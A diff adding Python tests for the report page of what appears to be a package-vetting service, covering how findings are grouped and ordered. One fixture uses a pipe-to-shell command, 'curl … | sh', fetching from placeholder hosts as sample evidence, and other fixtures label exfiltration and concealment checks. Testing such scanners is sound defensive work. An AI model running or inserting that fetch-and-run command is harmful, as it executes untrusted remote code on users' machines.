@@ -129,6 +129,50 @@ def test_what_passes_needs_nothing(client, shelf):
     assert client.get("/alice/pdf-tables/1.0.0/report").context["to_pass"] is None
 
 
+def test_what_is_found_in_many_places_is_explained_once(as_person, alice, shelf):
+    make = factories.finding
+    same = [
+        make(line=n, evidence=f"curl https://h{n}.test/i | sh", fix="Put it into the bundle.") for n in range(1, 10)
+    ]
+    other = make(line=2, check="concealment", code="SK-PI", why="It hides a step.")
+    shelf(verdict="block", findings=[*same[:5], other, *same[5:]])
+    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report")
+    (group,) = page.context["shelf"].groups
+    assert [(card.head["check"], card.count) for card in group["cards"]] == [("pipe_to_shell", 9), ("concealment", 1)]
+    text = page.content.decode()
+    assert text.count("<b>What to do:</b> Put it into the bundle.") == 1
+    assert "in 9 places" in text and "5 more places" in text
+    assert all(text.count(f"https://h{n}.test/i") == 1 for n in range(1, 10))
+
+
+def test_reasons_that_differ_stand_at_their_places(as_person, alice, shelf):
+    shelf(
+        verdict="block",
+        findings=[factories.finding(line=n, why=f"Key {n} goes out.", check="exfiltration") for n in (1, 2)],
+    )
+    text = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content.decode()
+    text = text[text.index('id="findings"') : text.index('id="scores"')]
+    assert text.count("Key 1 goes out.") == text.count("Key 2 goes out.") == 1
+
+
+def test_a_reason_for_one_place_is_not_shown_for_another(as_person, alice, shelf):
+    """What its author suppressed in one file stands in a card of its own."""
+    reason = {"reason": "It asks before it fetches.", "lifts": False}
+    shelf(verdict="block", findings=[factories.finding(line=1), factories.finding(line=2, suppressed=reason)])
+    (group,) = as_person(alice).get("/alice/pdf-tables/1.0.0/report").context["shelf"].groups
+    assert [card.count for card in group["cards"]] == [1, 1]
+
+
+def test_findings_come_before_the_stages_once_a_run_has_ended(as_person, alice, shelf):
+    shelf()
+    shelf("waiting", verdict="vetting")
+    ended = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content
+    running = as_person(alice).get("/alice/waiting/1.0.0/report").content
+    assert ended.index(b'id="findings"') < ended.index(b'id="stages"')
+    assert running.index(b'id="stages"') < running.index(b'id="findings"')
+    assert ended.count(b'id="stages"') == running.count(b'id="stages"') == 1
+
+
 def test_findings_are_narrowed_by_address_alone(as_person, alice, shelf):
     shelf(verdict="block", findings=many())
     browser = as_person(alice)
